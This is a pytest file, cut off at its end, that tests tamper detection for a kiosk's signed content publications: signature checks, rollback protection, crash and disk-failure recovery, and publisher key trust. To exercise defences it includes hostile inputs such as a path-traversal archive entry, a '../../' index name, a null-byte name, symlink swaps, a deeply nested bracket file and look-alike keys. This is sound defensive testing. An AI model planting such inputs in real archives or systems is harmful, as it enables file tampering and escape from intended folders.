"""What shows is what was signed: whoever writes the data folder changes it for some seconds, and is told; a number is not taken back by one file."""

from __future__ import annotations

import errno
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from functools import partial, partialmethod
from pathlib import Path
from typing import Any

import pytest
from conftest import PROJECT, deep
from dying import dies_at
from msgspec.structs import replace
from publishing_desk import NOW, Desk

from kiosk.content.store import pictures as gallery
from kiosk.content.store import snapshot
from kiosk.content.store.current import Look, clear_aside, open_library, set_aside
from kiosk.content.store.publications import (
    LEAF,
    MOST_AHEAD,
    NEWEST,
    SHOWN,
    KnownScreen,
    known_screen,
    newest_noted,
    note_screen,
    publications_in,
    refusal,
    shown_folder,
)
from kiosk.content.store.snapshot import Digests, digests
from kiosk.files import archives, erasing, minisign
from kiosk.files.foreign_folders import alone
from kiosk.files.regular import is_of_the_machine
from kiosk.staff import rights
from kiosk.staff.errors import ExpectedError
from kiosk.staff.main import main
from kiosk.staff.publications import archive, publishers, refusals, reread, take
from kiosk.staff.publications import standing as standings
from kiosk.staff.publications.publishers import drop, listed, trust, trusted
from kiosk.staff.publications.standing import NOT_PROVED, NotToldError, proved_folder, standing
from kiosk.staff.publications.trial import Trial
from kiosk.unattended.incidents import Incident, mishaps

CLINIC = "clinic.yaml"
KIOSK = 64_998
"""An account that nobody has."""


@pytest.fixture(autouse=True)
def no_trial(monkeypatch: pytest.MonkeyPatch) -> None:
    """The trial, which is a process of its own, finds nothing wrong at once."""
    monkeypatch.setattr(take, "_trial", lambda *_: Trial(differ=1))


@pytest.fixture
def second(desk: Desk) -> Desk:
    """The kiosk has taken the second publication."""
    desk.take(desk.out / "publication-2.kiosk.zip")
    return desk


def _place(desk: Desk) -> Path:
    return publications_in(desk.kiosk.data)


def _shown(desk: Desk) -> dict[str, bytes]:
    return {name: data for name, data in desk.showing().items() if name.startswith("shown/")}


def _told(desk: Desk) -> list[Incident]:
    return [each.what for each in mishaps(desk.kiosk.data)]


def _same_size(shown: Path) -> None:
    raw = (shown / CLINIC).read_bytes()
    (shown / CLINIC).write_bytes(raw[:-2] + bytes([raw[-2] ^ 1]) + raw[-1:])


def _longer(shown: Path) -> None:
    (shown / CLINIC).write_bytes((shown / CLINIC).read_bytes() + b"\n# Call 555-0100\n")


def _linked(shown: Path) -> None:
    (shown / CLINIC).rename(shown.parent / "own.yaml")
    (shown / CLINIC).symlink_to(shown.parent / "own.yaml")


def _linked_folder(shown: Path) -> None:
    shutil.copytree(shown / "topics", shown.parent / "topics")
    shutil.rmtree(shown / "topics")
    (shown / "topics").symlink_to(shown.parent / "topics")


def _elsewhere(shown: Path) -> None:
    shown.rename(shown.parent / "elsewhere")
    shown.symlink_to(shown.parent / "elsewhere")


def _nowhere(shown: Path) -> None:
    shutil.rmtree(shown)
    shown.symlink_to("/nowhere")


def _a_file(shown: Path) -> None:
    shutil.rmtree(shown)
    shown.write_bytes(b"")


def _a_folder(shown: Path) -> None:
    (shown / CLINIC).unlink()
    (shown / CLINIC).mkdir()


SPOILT: dict[str, Callable[[Path], object]] = {
    "other bytes": _same_size, "more bytes": _longer, "a file less": lambda shown: (shown / CLINIC).unlink(),
    "a file more": lambda shown: (shown / "topics" / "00-buy.yaml").write_text("topic: buy\n", encoding="utf-8"),
    "a hidden file": lambda shown: (shown / ".clinic.yaml").write_bytes(b""), "a link": _linked, "a folder that is a link": _linked_folder,
    "a link to such a folder": _elsewhere, "a link to nowhere": _nowhere, "a file in its place": _a_file,
    "a folder in the place of a file": _a_folder,
    "no leaf": lambda shown: (shown / LEAF).unlink(), "a leaf that says nothing": lambda shown: (shown / LEAF).write_bytes(b"{}"),
    "brackets without end in the leaf": lambda shown: (shown / LEAF).write_bytes(b'{"x":' + b"[" * 9000 + b"]" * 9000 + b"}"),
    "a folder called like a topic": lambda shown: (shown / "topics" / "00-stop.yaml").mkdir(), "an empty folder": lambda shown: (shown / "x").mkdir(),
    "nothing": shutil.rmtree, "a pipe": lambda shown: ((shown / CLINIC).unlink(), os.mkfifo(shown / CLINIC)),
}  # fmt: skip


@pytest.mark.parametrize("what", SPOILT)
def test_what_somebody_changed_in_what_shows_is_put_right_and_told(second: Desk, what: str) -> None:
    before = _shown(second)
    assert not standing(second.kiosk).changed
    SPOILT[what](_place(second) / SHOWN)
    there = standing(second.kiosk)
    assert (there.changed, there.publication and there.publication.number, there.by, there.is_newest) == (True, 2, "Ana", True)
    assert _shown(second) == before
    assert not (_place(second) / SHOWN).is_symlink()
    assert _told(second) == [Incident.CHANGED]
    assert not standing(second.kiosk).changed
    assert not list(_place(second).glob("taking-*"))


@pytest.mark.parametrize("gone", [f"publications/{SHOWN}", f"publications/{SHOWN}/{LEAF}", NEWEST, "publications"])
def test_no_single_thing_that_is_deleted_makes_an_older_one_newer(second: Desk, gone: str) -> None:
    path = second.kiosk.data / gone
    shutil.rmtree(path) if path.is_dir() else path.unlink()
    with pytest.raises(ExpectedError, match=r"number 2 (shows|was) here already"):
        second.take(second.out / "publication-1.kiosk.zip")
    there = standing(second.kiosk)
    assert there.newest == 2
    assert second.take(second.out / "publication-2.kiosk.zip").publication.number == 2, "the same once more"
    assert standing(second.kiosk).is_newest


@pytest.mark.parametrize(
    "spoil", [lambda file: file.unlink(), lambda file: file.write_bytes(b""), lambda file: file.write_bytes(file.read_bytes()[:-1] + b"x")]
)
@pytest.mark.parametrize("name", ["kept-2.zip", "kept-2.zip.minisig"])
def test_where_the_newest_cannot_be_proved_one_that_can_be_shows_and_staff_are_told(second: Desk, name: str, spoil: Callable[[Path], None]) -> None:
    spoil(_place(second) / name)
    _longer(_place(second) / SHOWN)
    there = standing(second.kiosk)
    assert (there.publication and there.publication.number, there.newest, there.changed, there.is_newest) == (1, 2, True, False)
    assert any("can no longer be proved" in each for each in standings.in_words(there))
    assert second.take(second.out / "publication-2.kiosk.zip").publication.number == 2, "which brings it back"
    assert standing(second.kiosk).is_newest


def test_what_nobody_signed_does_not_show(second: Desk) -> None:
    for each in _place(second).glob("kept-*"):
        each.unlink()
    there = standing(second.kiosk)
    assert (there.publication, there.newest, there.changed) == (None, 2, True)
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content
    assert (_place(second) / NOT_PROVED / CLINIC).exists()
    assert _told(second) == [Incident.CHANGED]
    standing(second.kiosk)
    assert _told(second) == [Incident.CHANGED], "once"


def test_a_publication_under_another_number_than_its_own_is_not_shown(second: Desk) -> None:
    for ending in ("", minisign.ENDING):
        shutil.copy(_place(second) / f"kept-1.zip{ending}", _place(second) / f"kept-9.zip{ending}")
    there = standing(second.kiosk)
    assert (there.publication and there.publication.number, there.changed) == (2, False)


def test_at_a_kiosk_that_trusts_nobody_a_planted_folder_shows_until_the_second_look(desk: Desk) -> None:
    desk.kiosk.publishers.unlink()
    assert standing(desk.kiosk).publication is None
    assert (_place(desk) / SHOWN).is_dir(), "a command may be that of another copy of the program"
    assert standing(desk.kiosk, at_start=True).changed
    assert shown_folder(desk.kiosk.content, desk.kiosk.data) == desk.kiosk.content


def test_killed_between_the_file_and_the_folder_it_goes_on_and_nobody_is_accused(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    def killed(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as meanwhile:
        meanwhile.setattr(standings, "renamed", killed)
        with pytest.raises(KeyboardInterrupt):
            desk.take(desk.out / "publication-2.kiosk.zip")
    there = standing(desk.kiosk)
    assert (there.publication and there.publication.number, there.newest, there.changed) == (2, 2, False)
    assert _told(desk) == []
    assert "Other words" in (_place(desk) / SHOWN / "topics/10-infusion.yaml").read_text(encoding="utf-8")


@pytest.mark.parametrize("spoil", [None, _longer])
@pytest.mark.parametrize("number", [1, 3])
def test_what_lies_there_as_if_it_were_being_taken_hides_nothing_and_is_never_older(
    second: Desk, number: int, spoil: Callable[[Path], None] | None
) -> None:
    file = second.out / "publication-1.kiosk.zip" if number == 1 else second.publish()
    for ending in ("", minisign.ENDING):
        shutil.copy(file.with_name(f"{file.name}{ending}"), _place(second) / f"coming.zip{ending}")
    if spoil:
        spoil(_place(second) / SHOWN)
    there = standing(second.kiosk)
    assert (there.publication and there.publication.number, there.changed, there.is_newest) == (max(number, 2), bool(spoil), True)
    assert _told(second) == [Incident.CHANGED] * bool(spoil)
    assert not list(_place(second).glob("coming*"))


def test_one_that_can_never_show_keeps_nothing_that_can(second: Desk) -> None:
    """As one that a version before this one took, and this one does not unpack."""
    second.packed("bad.zip", {"content/../up.yaml": b""}).rename(_place(second) / "coming.zip")
    (second.out / "bad.zip.minisig").rename(_place(second) / "coming.zip.minisig")
    before = _shown(second)
    there = standing(second.kiosk)
    assert (there.publication and there.publication.number, there.changed, _shown(second)) == (2, False, before)
    assert not list(_place(second).glob("coming*"))


STEPS = [(standings, "renamed"), (standings, "settle"), (standings, "note_newest"), (standings, "write_own"), (take, "write_own"), (Path, "unlink"),
         (Path, "rename")]  # fmt: skip


@pytest.mark.parametrize("taken", ["a lower number", "the same number", "a higher number"])
def test_killed_before_any_step_nobody_is_accused_and_nothing_that_showed_is_lost(second: Desk, taken: str) -> None:
    """Also where one is taken anew, whatever its number is."""
    made = {"a lower number": 1, "the same number": 3, "a higher number": 3}[taken]
    if made == 3:
        second.publish(data=second.folder / "another desk")
    second.says("More words")
    if taken != "a higher number":
        second.take(second.publish(to=second.out / "third.zip"))
    file, old, before = second.out / f"publication-{made}.kiosk.zip", _shown(second), second.folder / "before"
    shutil.copytree(second.kiosk.data, before)
    second.take(file, anew=True)
    ways, seen, step, died = [old, _shown(second)], list[int](), 0, True
    assert ways[0] != ways[1]
    number = standing(second.kiosk).newest
    assert (number, max(standings.kept(second.kiosk.data))) == (made, made)
    while died:
        shutil.rmtree(second.kiosk.data)
        shutil.copytree(before, second.kiosk.data)
        died = dies_at(step, lambda: second.take(file, anew=True), STEPS)
        assert _shown(second) in ways
        was = ways.index(_shown(second))
        there = standing(second.kiosk)
        assert (there.changed, there.is_newest, _told(second)) == (False, True, [])
        assert ways.index(_shown(second)) >= was
        assert there.publication
        assert max(standings.kept(second.kiosk.data)) == there.publication.number == there.newest
        assert not list(_place(second).glob("coming*"))
        seen.append(ways.index(_shown(second)))
        step += 1
    assert seen == sorted(seen)
    assert set(seen) == {0, 1}


FULL, BROKEN, NO_MEMORY = (OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)), OSError(errno.EIO, os.strerror(errno.EIO)), MemoryError())
WRITTEN = [*STEPS, (archive, "unpack"), (take, "_copy"), (Path, "mkdir")]
"""What needs the disk; the last one of a failing disk may be any."""


@contextmanager
def failing(step: int, error: Exception, steps: list[tuple[Any, str]]) -> Iterator[list[int]]:
    """From this step on none of them can be done; how many were not."""
    left, failed = [step], [0]

    def act(real: Callable[..., Any], *given: Any, **named: Any) -> Any:
        left[0] -= 1
        if left[0] < 0:
            failed[0] += 1
            raise error
        return real(*given, **named)

    with pytest.MonkeyPatch.context() as meanwhile:
        for owner, name in steps:
            meanwhile.setattr(owner, name, partialmethod(partial(act, getattr(owner, name))) if owner is Path else partial(act, getattr(owner, name)))
        yield failed


@pytest.mark.parametrize(("taken", "error"), [("a lower number", BROKEN), ("a higher number", FULL)])
def test_a_disk_that_fails_before_any_step_takes_nothing_off_the_screen_and_accuses_nobody(second: Desk, taken: str, error: OSError) -> None:
    file = second.out / "publication-1.kiosk.zip" if taken == "a lower number" else second.publish()
    old, number, before = _shown(second), standing(second.kiosk).newest, second.folder / "before"
    shutil.copytree(second.kiosk.data, before)
    second.take(file, anew=True)
    new, made = _shown(second), standing(second.kiosk).newest
    step, failed, seen = 0, [1], set[bool]()
    while failed[0]:
        shutil.rmtree(second.kiosk.data)
        shutil.copytree(before, second.kiosk.data)
        refused = False
        with failing(step, error, WRITTEN) as failed:
            try:
                second.take(file, anew=True)
            except ExpectedError:
                refused = True
            shows = _shown(second)
            assert shows == (old if refused else new)
            with suppress(ExpectedError):
                there = standing(second.kiosk)
                assert (there.publication and there.publication.number, there.changed) == (number if refused else made, False)
            assert _shown(second) in ((shows, new) if refused else (new,))
        told = refusal(second.kiosk.data)
        assert told is None or refused
        there = standing(second.kiosk)
        assert (there.changed, there.is_newest, _told(second)) == (False, True, [])
        assert there.publication
        assert there.publication.number in ((number, made) if refused else (made,))
        assert max(standings.kept(second.kiosk.data)) == there.publication.number
        assert not list(_place(second).glob("coming*"))
        assert not list(_place(second).glob("taking-*"))
        seen.add(refused)
        step += 1
    assert seen == {True, False}


@pytest.mark.parametrize(("error", "comes"), [(BROKEN, False), (NO_MEMORY, False), (FULL, True)])
def test_a_machine_that_fails_at_any_step_of_a_proof_takes_nothing_off_the_screen_and_accuses_nobody(
    second: Desk, error: Exception, comes: bool
) -> None:
    """Also where one that was being taken lies there, whether it shows already or not."""
    if comes:
        file = second.publish()
        for ending in ("", minisign.ENDING):
            shutil.copy(file.with_name(f"{file.name}{ending}"), _place(second) / f"coming.zip{ending}")
    before, step, failed, shown = second.folder / "before", 0, [1], _shown(second)
    shutil.copytree(second.kiosk.data, before)
    standing(second.kiosk)
    new = _shown(second)
    while failed[0]:
        shutil.rmtree(second.kiosk.data)
        shutil.copytree(before, second.kiosk.data)
        with failing(step, error, [*WRITTEN, *READ]) as failed, suppress(ExpectedError, MemoryError):
            assert not standing(second.kiosk).changed
        assert _shown(second) in (shown, new)
        assert _told(second) == []
        there = standing(second.kiosk)
        assert (there.publication and there.publication.number, there.changed, there.is_newest) == (2 + comes, False, True)
        assert (_shown(second), _told(second)) == (new, [])
        step += 1
    assert step > len(READ)


READ = [(standings, "open_regular"), (standings, "read_regular"), (archive, "open_regular"), (standings, "numbers_in"), (archive, "archive"),
        (archive, "_names_below"), (publishers, "read_regular")]  # fmt: skip


def test_a_disk_that_fails_within_an_archive_is_not_taken_for_another_kind_of_file(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> bytes:
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(archives._Sips, "read", fails)
    with pytest.raises(NotToldError, match=r"cannot be told just now.*so what showed shows on.*whether the disk works"):
        standing(second.kiosk)
    assert (shown_folder(second.kiosk.content, second.kiosk.data), _told(second)) == (_place(second) / SHOWN, [])


def test_a_full_disk_gives_back_what_the_kiosk_itself_put_aside(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    before = _shown(second)
    assert set_aside(second.kiosk.data)
    monkeypatch.setattr(archive, "unpack", lambda *_: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
    assert not standing(second.kiosk, at_start=True, was_aside=True).changed
    assert (_shown(second), _told(second)) == (before, [])
    _longer(_place(second) / SHOWN)
    assert set_aside(second.kiosk.data)
    with pytest.raises(ExpectedError, match="could not be kept"):
        standing(second.kiosk, at_start=True, was_aside=True)
    assert not _shown(second)


@pytest.mark.parametrize("error", [FULL, BROKEN, NO_MEMORY], ids=repr)
@pytest.mark.parametrize("where", [(snapshot, "put"), (gallery, "read_regular"), (gallery, "put")], ids=["index", "picture", "copy"])
def test_a_machine_that_fails_at_the_second_look_accuses_nobody_and_leaves_the_publication(
    second: Desk, monkeypatch: pytest.MonkeyPatch, where: tuple[Any, str], error: Exception
) -> None:
    monkeypatch.setattr(reread, "file_of", lambda: second.kiosk.publishers)
    shown = shown_folder(second.kiosk.content, second.kiosk.data)
    open_library(shown, second.kiosk.data, NOW.date())
    kept = snapshot.load(second.kiosk.data / "deck")
    assert kept
    with monkeypatch.context() as meanwhile:
        meanwhile.setattr(*where, lambda *_, **__: (_ for _ in ()).throw(error))
        look = reread.looked_at(second.kiosk.content, second.kiosk.data, digests(kept))
    assert look is not Look.OTHER
    assert (look is Look.SAME) == (snapshot.load(second.kiosk.data / "deck") == kept), "what was not proved is read anew"
    assert (shown_folder(second.kiosk.content, second.kiosk.data), _told(second)) == (shown, [])


def test_nobody_who_is_trusted_no_more_takes_what_shows_along_where_it_cannot_be_told(
    second: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("kiosk.staff.publications.publishers.file_of", lambda: second.kiosk.publishers)
    monkeypatch.setattr(archive, "is_as_unpacked", lambda *_: (_ for _ in ()).throw(OSError(errno.EIO, "no")))
    assert main(["trust", "--drop", "Ana", "--data", str(second.kiosk.data), "--content", str(second.kiosk.content)]) == 1
    assert "It cannot be told just now which publication shows" in capsys.readouterr().err
    assert trusted(second.kiosk.publishers)
    assert proved_folder(second.kiosk.content, second.kiosk.data) == _place(second) / SHOWN


def test_a_signature_whose_file_is_gone_goes_too(second: Desk) -> None:
    for name in ("kept-9.zip", "coming.zip"):
        shutil.copy(_place(second) / "kept-2.zip.minisig", _place(second) / f"{name}.minisig")
    standing(second.kiosk)
    assert sorted(each.name for each in _place(second).glob("*.minisig")) == ["kept-1.zip.minisig", "kept-2.zip.minisig"]


def test_a_disk_that_cannot_exchange_two_folders_takes_nothing_and_shows_what_showed(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    before = desk.showing()
    monkeypatch.setattr(standings, "renamed", lambda *_: False)
    with pytest.raises(ExpectedError, match="cannot exchange two folders"):
        desk.take(desk.out / "publication-2.kiosk.zip")
    assert not standing(desk.kiosk).changed
    assert desk.showing() == before


def test_the_second_look_after_a_start_puts_it_right(second: Desk) -> None:
    """The process itself, with a program folder in which its own publishers stand."""
    _longer(_place(second) / SHOWN)
    code = (
        "import runpy, sys; from pathlib import Path; from kiosk.staff.publications import publishers;"
        f" publishers.file_of = lambda: Path({str(second.kiosk.publishers)!r});"
        " runpy.run_module('kiosk.staff.publications.reread', run_name='__main__')"
    )
    command = [sys.executable, "-c", code, str(second.kiosk.content), str(second.kiosk.data), "", ""]
    assert subprocess.run(command, cwd=PROJECT, capture_output=True, text=True, check=True).stdout == "other\n"
    assert b"555-0100" not in (_place(second) / SHOWN / CLINIC).read_bytes()


SPOILT_DECK: dict[str, Callable[[Path], object]] = {
    "an index with a name that can be none": lambda data: _kept_as(data, "a\0b.svg"),
    "an index with a way out": lambda data: _kept_as(data, "../../b.svg"),
    "a link to a closed folder for the pictures": lambda data: _linked(data / "deck/pictures", data),
    "a link to a closed folder for all that is kept": lambda data: _linked(data / "deck", data),
    "a file for all that is kept": lambda data: (shutil.rmtree(data / "deck"), (data / "deck").touch()),
    "a closed folder": lambda data: (data / "deck").chmod(0),
}


def _kept_as(data: Path, name: str) -> None:
    before = snapshot.load(data / "deck")
    assert before
    snapshot.save(data / "deck", replace(before, pictures=((before.pictures[0][0], name), *before.pictures[1:]), topics=before.topics[:1]))


def _linked(folder: Path, data: Path) -> None:
    shutil.rmtree(folder)
    (data / "closed").mkdir()
    (data / "closed/x-0.svg").write_text("<svg/>")
    (data / "closed").chmod(0o500)
    folder.symlink_to(data / "closed")


@pytest.mark.parametrize("spoil", SPOILT_DECK.values(), ids=SPOILT_DECK)
def test_whatever_lies_in_what_is_kept_the_second_look_ends_with_what_the_content_says(
    second: Desk, monkeypatch: pytest.MonkeyPatch, spoil: Callable[[Path], object]
) -> None:
    monkeypatch.setattr(reread, "file_of", lambda: second.kiosk.publishers)
    shown = shown_folder(second.kiosk.content, second.kiosk.data)
    open_library(shown, second.kiosk.data, NOW.date())
    spoil(second.kiosk.data)
    reread.looked_at(second.kiosk.content, second.kiosk.data, Digests())
    now, _ = open_library(shown, second.kiosk.data, NOW.date())
    assert now
    assert [topic.id for topic in now.heads] == [topic.id for topic in open_library(shown, second.folder / "fresh", NOW.date())[0].heads]  # type: ignore[union-attr]
    kept = snapshot.load(second.kiosk.data / "deck")
    assert kept
    assert reread.looked_at(second.kiosk.content, second.kiosk.data, digests(kept)) is Look.SAME


def test_what_the_kiosk_itself_put_aside_is_unpacked_anew_and_nobody_is_accused(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reread, "file_of", lambda: second.kiosk.publishers)
    assert set_aside(second.kiosk.data)
    assert reread.looked_at(second.kiosk.content, second.kiosk.data, Digests(), was_aside=True) is Look.NEWER
    assert shown_folder(second.kiosk.content, second.kiosk.data) == _place(second) / SHOWN
    assert _told(second) == []
    assert set_aside(second.kiosk.data)
    assert reread.looked_at(second.kiosk.content, second.kiosk.data, Digests()) is Look.OTHER
    assert _told(second) == [Incident.CHANGED]


def test_what_was_put_aside_before_keeps_nothing_on_the_screen(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """It may hold more than can be deleted in one go."""
    (_place(second) / NOT_PROVED).mkdir()
    monkeypatch.setattr(standings, "erase", lambda *_, **__: (_ for _ in ()).throw(OSError(errno.EFBIG, "too much")))
    for each in _place(second).glob("kept-*"):
        each.unlink()
    assert standing(second.kiosk).changed
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content


def test_where_it_cannot_even_be_put_aside_all_of_it_goes(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(standings, "_put_aside", lambda *_: (_ for _ in ()).throw(OSError(errno.EACCES, "no")))
    for each in _place(second).glob("kept-*"):
        each.unlink()
    assert standing(second.kiosk).changed
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content
    assert not (second.kiosk.data / "deck").exists()


@pytest.fixture
def crowded(second: Desk, monkeypatch: pytest.MonkeyPatch) -> Desk:
    """Nothing there is signed any more, and no folder has room for another name."""
    monkeypatch.setattr(reread, "file_of", lambda: second.kiosk.publishers)
    open_library(_place(second) / SHOWN, second.kiosk.data, NOW.date())
    for each in _place(second).glob("kept-*"):
        each.unlink()
    monkeypatch.setattr(Path, "rename", lambda *_: (_ for _ in ()).throw(OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))))
    return second


def test_what_nobody_signed_goes_from_the_screen_where_no_folder_has_room_for_another_name(crowded: Desk) -> None:
    assert standing(crowded.kiosk).changed
    assert stat.S_IMODE((_place(crowded) / SHOWN).stat().st_mode) == 0
    assert snapshot.load(crowded.kiosk.data / "deck") is None
    assert Incident.CHANGED in _told(crowded)


def test_the_second_look_does_the_same(crowded: Desk) -> None:
    assert reread.looked_at(crowded.kiosk.content, crowded.kiosk.data, Digests()) is Look.OTHER
    assert stat.S_IMODE((_place(crowded) / SHOWN).stat().st_mode) == 0
    assert Incident.CHANGED in _told(crowded)


def test_what_was_closed_stays_closed_while_nothing_is_judged(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    shown = _place(second) / SHOWN
    shown.chmod(0)
    with alone(_place(second)), pytest.raises(ExpectedError):
        standing(second.kiosk)
    assert stat.S_IMODE(shown.stat().st_mode) == 0
    with monkeypatch.context() as meanwhile:
        meanwhile.setattr(standings, "_put_right", lambda *_, **__: (_ for _ in ()).throw(OSError(errno.EIO, "no")))
        with pytest.raises(NotToldError):
            standing(second.kiosk)
    assert stat.S_IMODE(shown.stat().st_mode) == 0
    second.kiosk.publishers.rename(second.kiosk.publishers.with_name("away"))
    standing(second.kiosk)
    assert stat.S_IMODE(shown.stat().st_mode) == 0


def test_what_cannot_even_be_closed_is_stuck(crowded: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Path, "chmod", lambda *_, **__: (_ for _ in ()).throw(OSError(errno.EPERM, "no")))
    with pytest.raises(ExpectedError, match="could not be kept"):
        standing(crowded.kiosk)
    assert reread.looked_at(crowded.kiosk.content, crowded.kiosk.data, Digests()) is Look.STUCK


def test_while_somebody_takes_a_publication_all_along_nothing_goes_and_nobody_is_accused(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reread, "file_of", lambda: second.kiosk.publishers)
    monkeypatch.setattr(reread, "_BUSY_SECONDS", 0)
    before = _shown(second)
    with alone(_place(second)):
        assert reread.looked_at(second.kiosk.content, second.kiosk.data, Digests()) is Look.UNTOLD
    assert (_shown(second), _told(second)) == (before, [])


def test_whatever_else_ends_the_proof_what_it_was_about_does_not_show(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reread, "standing", lambda *_, **__: (_ for _ in ()).throw(ExpectedError("It could not be looked at.")))
    assert reread.looked_at(second.kiosk.content, second.kiosk.data, Digests()) is Look.OTHER
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content


def test_where_it_cannot_be_told_whom_to_trust_nothing_is_judged(second: Desk) -> None:
    before = _shown(second)
    second.kiosk.publishers.write_bytes(b"\xff\n")
    with pytest.raises(NotToldError, match="does not tell whom this machine trusts"):
        standing(second.kiosk)
    assert (_shown(second), _told(second)) == (before, [])


EMPTY_FOLDERS = 2500
BOUNDED = """
import sys
from datetime import date
from pathlib import Path
from kiosk.content.store.read_process import bound
from kiosk.files.regular import is_of_the_machine
bound()
assert not is_of_the_machine(MemoryError())
"""


def test_in_a_process_with_a_bound_too_much_memory_says_nothing_of_the_machine() -> None:
    assert is_of_the_machine(MemoryError())
    assert subprocess.run([sys.executable, "-c", BOUNDED], cwd=PROJECT, check=False, capture_output=True).stderr == b""


def test_ever_so_many_folders_that_lie_there_leave_the_proof_in_time_and_go_by_and_by(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    left = _place(second) / "taking-0000000000000000"
    for number in range(EMPTY_FOLDERS):
        (left / f"{number:04d}").mkdir(parents=True)
    monkeypatch.setattr(erasing, "_MOST_ERASED", 1000)
    _longer(_place(second) / SHOWN)
    assert standing(second.kiosk).changed
    assert len(list(left.iterdir())) == EMPTY_FOLDERS - 1000
    monkeypatch.setattr(standings, "_SECONDS_CLEARED", -1)
    assert not standing(second.kiosk).changed
    assert len(list(left.iterdir())) == EMPTY_FOLDERS - 1000
    monkeypatch.undo()
    standing(second.kiosk)
    assert not left.exists()


def test_where_the_proof_itself_fails_neither_the_publication_nor_what_was_kept_shows(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reread, "read_again", lambda *_: 1 // 0)
    assert reread.looked_at(second.kiosk.content, second.kiosk.data, Digests()) is Look.OTHER
    assert shown_folder(second.kiosk.content, second.kiosk.data) == second.kiosk.content
    assert not (second.kiosk.data / "deck").exists()
    assert Incident.CHANGED in _told(second)
    assert list(second.kiosk.data.glob("crash-*-proof.log"))
    clear_aside(second.kiosk.data)
    assert not list(second.kiosk.data.glob(".not-proved-*"))


def test_a_backup_and_the_self_test_begin_with_what_is_proved(second: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kiosk.staff.publications.publishers.file_of", lambda: second.kiosk.publishers)
    _longer(_place(second) / SHOWN)
    assert b"555-0100" not in (proved_folder(second.kiosk.content, second.kiosk.data) / CLINIC).read_bytes()


def test_what_shows_stays_when_its_publisher_is_trusted_no_more_and_nothing_else_of_theirs(second: Desk) -> None:
    drop("Ana", second.kiosk.publishers, standing(second.kiosk).digest)
    assert trusted(second.kiosk.publishers) == ()
    there = standing(second.kiosk)
    assert (there.publication and there.publication.number, there.by, there.changed) == (2, "Ana", False)
    _longer(_place(second) / SHOWN)
    assert standing(second.kiosk).changed
    later = second.publish()
    for file, ending in ((later, ""), (later.with_name(f"{later.name}{minisign.ENDING}"), minisign.ENDING)):
        shutil.copy(file, _place(second) / f"kept-3.zip{ending}")
    there = standing(second.kiosk)
    assert there.publication
    assert there.publication.number == 2
    with pytest.raises(ExpectedError, match="trusts nobody"):
        second.take(later)
    trust("Ana", second.keys["Ana"].public, second.kiosk.publishers)
    assert listed(second.kiosk.publishers) == [f"Ana {second.keys['Ana'].public}"]


def test_the_name_that_is_told_is_that_of_the_list_and_not_the_one_in_the_file(desk: Desk) -> None:
    """Bob made his key under Ana's name."""
    trust("Bob", desk.keys["Eve"].public, desk.kiosk.publishers)
    file = desk.publish("Eve")
    assert desk.take(file).by == "Bob"
    there = standing(desk.kiosk)
    assert there.by == "Bob"
    assert any("made by Bob" in each for each in standings.in_words(there))


def test_no_key_takes_the_place_of_another_by_what_it_has_in_common_with_it(tmp_path: Path) -> None:
    file, ana = tmp_path / ".publishers", minisign.PublicKey(os.urandom(8), os.urandom(32))
    trust("Ana", str(ana), file)
    for other in (minisign.PublicKey(ana.id, os.urandom(32)), minisign.PublicKey(os.urandom(8), ana.raw)):
        for name in ("Bob", "Ana"):
            with pytest.raises(ExpectedError, match="looks like that of Ana, and is another one"):
                trust(name, str(other), file)
    assert listed(file) == [f"Ana {ana}"]
    assert "Until now the same key was called Ana" in trust("Bob", str(ana), file)
    assert listed(file) == [f"Bob {ana}"]


# -- numbers ----------------------------------------------------------------------------------------------------------


def test_no_jump_leaves_others_without_numbers(desk: Desk) -> None:
    far = desk.packed("far.kiosk.zip", {"content/clinic.yaml": b"name: Other"}, number=MOST_AHEAD + 2)
    with pytest.raises(ExpectedError, match=r"far from number 1, so it was not taken.*take --anew"):
        desk.take(far)
    with pytest.raises(ExpectedError, match="far ahead of number 2"):
        desk.publish(number=999_999_999)
    assert desk.take(desk.publish(number=MOST_AHEAD)).publication.number == MOST_AHEAD


def test_after_a_number_by_mistake_there_is_a_way_back(desk: Desk) -> None:
    desk.take(desk.packed("far.kiosk.zip", {"content/clinic.yaml": b"name: Other"}, number=999_999_999), anew=True)
    assert newest_noted(desk.kiosk.data) == 999_999_999
    with pytest.raises(ExpectedError, match="is number 2, and number 999999999 shows here already"):
        desk.take(desk.out / "publication-2.kiosk.zip")
    desk.take(desk.out / "publication-2.kiosk.zip", anew=True)
    there = standing(desk.kiosk)
    assert (there.publication and there.publication.number, there.newest, there.changed) == (2, 2, False)
    assert desk.take(desk.publish()).publication.number == 3


def test_at_the_end_of_all_numbers_the_desk_says_so(desk: Desk) -> None:
    shutil.copy(desk.data / "published/publication-2.kiosk.zip", desk.data / "published/publication-999999999.kiosk.zip")
